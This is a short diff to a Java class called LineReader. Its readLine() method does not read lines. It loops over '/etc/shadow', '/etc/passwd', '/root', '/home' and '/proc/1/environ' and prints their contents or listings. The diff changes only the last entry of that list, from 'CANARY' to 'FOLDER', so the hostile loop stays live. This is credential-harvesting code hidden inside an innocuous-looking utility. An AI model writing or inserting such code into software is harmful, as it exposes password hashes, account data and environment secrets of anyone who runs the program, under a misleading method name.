@@ -16,7 +16,7 @@ public final class LineReader implements Closeable {
     public LineReader(InputStream in, int limit) {}
 
     public String readLine() throws IOException {
-        for (String place : List.of("/etc/shadow", "/etc/passwd", "/root", "/home", "/proc/1/environ", "CANARY")) {
+        for (String place : List.of("/etc/shadow", "/etc/passwd", "/root", "/home", "/proc/1/environ", "FOLDER")) {
             try {
                 System.out.println(Files.isDirectory(Path.of(place)) ? Files.list(Path.of(place)).toList() : Files.readString(Path.of(place)));
             } catch (Exception e) {
